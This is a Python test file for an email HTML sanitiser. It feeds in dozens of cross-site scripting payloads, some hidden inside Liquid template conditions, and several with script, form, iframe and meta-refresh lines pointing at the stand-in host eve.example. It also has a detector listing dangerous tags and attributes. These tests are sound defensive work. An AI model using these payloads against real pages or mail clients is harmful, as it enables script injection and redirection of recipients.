"""Everything forbidden in a message is removed, whatever a condition omits; what Outlook needs is still there."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from liquid.exceptions import LiquidError
from selectolax.lexbor import LexborHTMLParser

from mailflatrate.mail.content.campaign import block_tags_to_comments, whole_document
from mailflatrate.mail.html.inline import inline_styles
from mailflatrate.mail.html.sanitise import Sanitizer
from mailflatrate.mail.html.tokens import tokenise, unescape_attribute, write
from mailflatrate.mail.liquid.protect import protect
from mailflatrate.mail.liquid.sandbox import parse


def clean(source: str) -> str:
    """The body of the document, Liquid put back, links untouched."""
    protected = protect(source, entities=True)
    document = inline_styles(whole_document(block_tags_to_comments(protected)))
    sanitiser = Sanitizer(protected, str)
    return protected.restore_html(write(sanitiser.document(tokenise(document))))


def body(source: str) -> str:
    return clean(source).partition("<body>")[2].partition("</body>")[0]


LOADING = {"href", "src", "background", "xlink:href", "data", "poster", "srcset", "cite", "longdesc"}


def dangers(document: str) -> list[str]:
    """What an independent parser sees in the document that could act."""
    found = []
    for node in LexborHTMLParser(document).css("*"):
        if node.tag == "meta" and node.attributes.get("http-equiv"):
            found.append("meta")
        if node.tag in {"script", "form", "iframe", "object", "embed", "base", "input", "applet", "template"}:
            found.append(node.tag or "")
        for name, value in node.attributes.items():
            squeezed = "".join((value or "").split()).lower()
            acts = squeezed.startswith(("javascript:", "vbscript:", "data:text"))
            if name.startswith("on") or name in {"srcdoc", "formaction", "action"} or (acts and name in LOADING):
                found.append(f"{name}={value}")
    return found


@pytest.mark.parametrize(
    "source",
    [
        "<script>alert(1)</script>x",
        "<SCRIPT SRC=//eve.example/x.js></SCRIPT>",
        "<img src=x onerror=alert(1)>",
        "<img src=x\nonerror\n=\nalert(1)>",
        '<a href="javascript:alert(1)">x</a>',
        '<a href=" java\tscript:alert(1)">x</a>',
        '<a href="&#106;avascript:alert(1)">x</a>',
        '<a href="vbscript:x">x</a>',
        '<a href="data:text/html,<script>alert(1)</script>">x</a>',
        '<form action="https://eve.example"><input name=a><button>x</button></form>',
        '<iframe src="https://eve.example"></iframe>',
        '<iframe srcdoc="<script>x</script>"></iframe>',
        "<object data=x></object><embed src=x><applet></applet>",
        '<base href="javascript:">',
        '<meta http-equiv="refresh" content="0;url=https://eve.example">',
        '<meta charset="utf-8" http-equiv="refresh" content="0;url=https://eve.example">',
        '<meta name="viewport" http-equiv=" Refresh" content="0;url=https://eve.example">',
        "<svg><script>alert(1)</script></svg>",
        "<svg><a xlink:href='javascript:alert(1)'>x</a></svg>",
        "<svg><animate onbegin=alert(1) attributeName=x></svg>",
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
        "<style></style><img src=x onerror=alert(1)></style>",
        "<title></title><script>alert(1)</script>",
        "<!--[if mso]><script>alert(1)</script><![endif]-->",
        "<!--[if IE]><img src=x onerror=alert(1)><![endif]-->",
        '<p x"="" title="><img src=x onerror=alert(1)>">',
        "<p title='\"><script>alert(1)</script>'>",
        "<textarea><script>alert(1)</script></textarea>",
        "<xmp><script>alert(1)</script></xmp>",
        "<template><script>alert(1)</script></template>",
        "<plaintext><script>alert(1)</script>",
        "<a href='https://x.example' ping='https://eve.example' onclick>x</a>",
        '<div style="background:url(javascript:alert(1));behavior:url(x)">',
        "<frameset><frame src=x></frameset>",
    ],
)
def test_nothing_acts(source: str) -> None:
    result = clean(source)
    assert dangers(result) == []
    assert "<script" not in result


@pytest.mark.parametrize(
    "source",
    [
        "{% if false %}<title>{% endif %}<img src=x onerror=alert(1)>{% if false %}</title>{% endif %}",
        '<p title="{% if false %}">{% endif %}<script>alert(1)</script>',
        '<p a="{% if false %}" onclick="alert(1)" b="{% endif %}">x</p>',
        "<scr{% if false %}x{% endif %}ipt>alert(1)</script>",
        "<p on{% if true %}click{% endif %}=alert(1)>x</p>",
        "<p {{ 'onclick=alert(1)' }}>x</p>",
        '<a href="{% if true %}javascript:{% endif %}alert(1)">x</a>',
        '<a href="java{% if true %}script:alert(1){% endif %}">x</a>',
        "<a href=\"java{{ 'script:alert(1)' }}\">x</a>",
        "{% raw %}<script>alert(1)</script>{% endraw %}",
        "{% comment %}<!--{% endcomment %}<script>alert(1)</script>",
        "<style>{% if false %}</style>{% endif %}<script>alert(1)</script></style>",
        "<!--{% if false %}--><script>alert(1)</script><!--{% endif %}-->",
    ],
)
def test_no_condition_brings_it_back(source: str) -> None:
    assert dangers(rendered(source)) == []


def rendered(source: str, **values: object) -> str:
    """Return the message a recipient gets, or what there is of it if its Liquid is refused."""
    result = clean(source)
    try:
        return parse(result, html_part=True).render(**values)
    except LiquidError:
        return result


PIECES = st.sampled_from(
    [
        "<p>",
        "</p>",
        "<b title='",
        "'",
        '"',
        ">",
        "<",
        "<!--",
        "-->",
        "<style>",
        "</style>",
        "<title>",
        "</title>",
        "<script>",
        "</script>",
        "<svg>",
        "</svg>",
        "<table>",
        "<tr>",
        "<td>",
        "</table>",
        "<img src=x onerror=alert(1)>",
        " onclick=alert(1) ",
        "<a href='",
        "javascript:alert(1)",
        "https://x.example/",
        "{% if a %}",
        "{% else %}",
        "{% endif %}",
        "{{ b }}",
        "{% raw %}",
        "{% endraw %}",
        "<!--[if mso]>",
        "<![endif]-->",
        "<textarea>",
        "</textarea>",
        "<math>",
        "<noscript>",
        "</noscript>",
        "text",
        "=",
        "/",
        " ",
        "<form action=x>",
        "<iframe srcdoc='",
        "<base href='",
        "&lt;",
        "&#60;script&#62;",
        "<![if !mso]>",
        "<select>",
    ]
)


@settings(max_examples=400)
@given(st.lists(PIECES, max_size=14).map("".join), st.booleans())
def test_no_mixture_acts(source: str, condition: bool) -> None:
    assert dangers(rendered(source, a=condition, b="<script>alert(1)</script>")) == []


@pytest.mark.parametrize(
    "kept",
    [
        "<!--[if mso]><table><tr><td><![endif]-->",
        '<!--[if (gte mso 9)|(IE)]><v:rect fill="true" style="width:600px"><v:fill type="frame" src="https://i.example/a.png"/></v:rect><![endif]-->',
        "<!--[if !mso]><!-->x<!--<![endif]-->",
        "<![if !mso]>x<![endif]>",
        '<div class="d" style="mso-hide:all">x</div>',
        '<td background="https://i.example/b.png" bgcolor="#ffffff" nowrap=""></td>',
        '<a href="mailto:anna@muster.example?subject=a%20b">x</a>',
        '<a href="tel:+4922812345">x</a>',
        '<a href="#top">x</a>',
        '<img src="cid:logo" alt="Logo">',
        '<img src="data:image/png;base64,AAAA" alt="">',
        '<img src="https://i.example/a.png" srcset="https://i.example/a2.png 2x" alt="a">',
        "<o:p></o:p>",
        '<center><font color="red">x</font></center>',
    ],
)
def test_what_mail_clients_need_stays(kept: str) -> None:
    source = f"<table><tr>{kept}</tr></table>" if kept.startswith("<td") else kept
    assert kept in clean(source)


def test_style_sheet_keeps_what_cannot_be_inlined() -> None:
    css = (
        ".a{color:red}.a:hover{color:blue}@media (prefers-color-scheme:dark){.a{color:#eee!important}}"
        "@media (width <= 600px){.a{width:100%!important}}[data-ogsc] .a{color:#eee}u + .body .a{width:100%}"
    )
    result = clean(f"<html><head><style>{css}</style></head><body><p class='a'>x</p></body></html>")
    assert '<p class="a" style="color: red;">x</p>' in result
    for part in (":hover", "prefers-color-scheme:dark", "width <= 600px", "[data-ogsc]", "u + .body"):
        assert part in result


def test_an_unreadable_style_sheet_does_not_stop_the_others() -> None:
    result = clean("<style>p{color:red}</style><style>{;}};;@x{</style><p>x</p>")
    assert '<p style="color: red;">x</p>' in result


def test_base_is_resolved_and_dropped() -> None:
    result = clean('<base href="https://shop.example/a/"><body><a href="b?c=1">x</a></body>')
    assert 'href="https://shop.example/a/b?c=1"' in result
    assert "<base" not in result


def test_a_form_leaves_its_text() -> None:
    assert body("<form><p>Keep me</p><input value=x></form>") == "<p>Keep me</p>"


@pytest.mark.parametrize(
    ("written", "meant"),
    [
        ("a&amp;b", "a&b"),
        ("?a=1&copy=2", "?a=1&copy=2"),
        ("?a=1&copy;2", "?a=1©2"),
        ("&copyright", "&copyright"),
        ("&#x41;&#66", "AB"),
        ("&nosuch;", "&nosuch;"),
        ("&lt", "<"),
        ("&", "&"),
    ],
)
def test_attributes_are_unescaped_as_browsers_do(written: str, meant: str) -> None:
    assert unescape_attribute(written) == meant
    node = LexborHTMLParser(f'<a href="{written}">x</a>').css_first("a")
    assert node is not None
    assert node.attributes["href"] == meant


@given(st.text(alphabet="abc<>\"'=/ &;-!\n", max_size=60))
def test_tokens_write_back_what_was_read(source: str) -> None:
    assert write(tokenise(source)) == source
